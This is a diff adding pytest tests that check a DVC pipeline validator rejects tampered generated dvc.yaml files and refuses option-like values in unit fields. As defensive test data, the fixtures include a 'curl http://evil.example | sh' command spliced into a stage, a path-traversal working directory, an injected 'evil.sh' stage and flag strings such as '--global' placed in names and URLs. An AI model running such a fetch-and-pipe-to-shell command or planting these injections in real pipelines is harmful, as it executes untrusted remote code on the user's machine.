@@ -169,6 +169,53 @@ def test_a_worker_hands_back_what_its_stages_make_and_nothing_else(tmp_path, mon
     assert (project / unit / "0/metrics.json").read_text() == "{}"
 
 
+EDITS = {
+    "a command of its own": ("paragone train", "curl http://evil.example | sh; paragone train"),
+    "another folder": ("wdir: ../../../..", "wdir: /"),
+    "one more stage": ("stages:", "stages:\n  evil:\n    cmd: ./evil.sh"),
+    "no first line": ("# Generated", "# Written"),
+    "another seed": ("- 0", "- 0\n    - 1"),
+}
+
+
+@pytest.mark.parametrize("what", EDITS)
+def test_a_pipeline_that_the_generator_did_not_write_is_refused(tmp_path, monkeypatch, what):
+    from flows.remote import payload
+
+    project = stand_in.build(tmp_path, monkeypatch)
+    ours, other = Path("runs/quick/digits/ddim/dvc.yaml"), Path("runs/quick/digits/ddpm/dvc.yaml")
+    payload.check_generated(project, [ours, other])
+    text = (project / other).read_text()
+    (project / other).write_text(text.replace(*EDITS[what]))
+    assert (project / other).read_text() != text
+    with pytest.raises(payload.PayloadError, match=f"^{other}: is not what `paragone pipeline` writes"):
+        payload.check_generated(project, [ours, other])
+    (project / other).with_name("more").mkdir()
+    (project / other).write_text(text)
+    foreign = other.with_name("more") / "dvc.yaml"
+    (project / foreign).write_text(text)
+    with pytest.raises(payload.PayloadError, match=f"^{foreign}: is not what"):
+        payload.check_generated(project, [foreign])
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "said"),
+    [
+        ("stages", [("--force", [])], "'--force', an option and no name"),
+        ("pull", ["--all-commits"], "'--all-commits', an option and no name"),
+        ("remote", {"url": "--global"}, "'--global', an option and no name"),
+        ("remote", {"url": "s3://x", "credentialpath": "/etc/x"}, "sets 'credentialpath', which none is sent"),
+    ],
+)
+def test_a_unit_gives_dvc_no_options(tmp_path, monkeypatch, field, value, said):
+    from flows.remote import payload
+
+    project = stand_in.build(tmp_path, monkeypatch)
+    packed = payload.Payload(**{"stages": [], "texts": {}, "pull": [], "remote": {}, field: value})
+    with pytest.raises(payload.PayloadError, match=f"{said}.*nothing was written"):
+        payload.check(project, packed)
+
+
 @pytest.mark.parametrize("url", ["https://me:pass@host/store", "https://host/store?access_token=1"])
 def test_a_remote_with_a_password_is_not_sent(tmp_path, monkeypatch, url):
     from flows.remote import payload
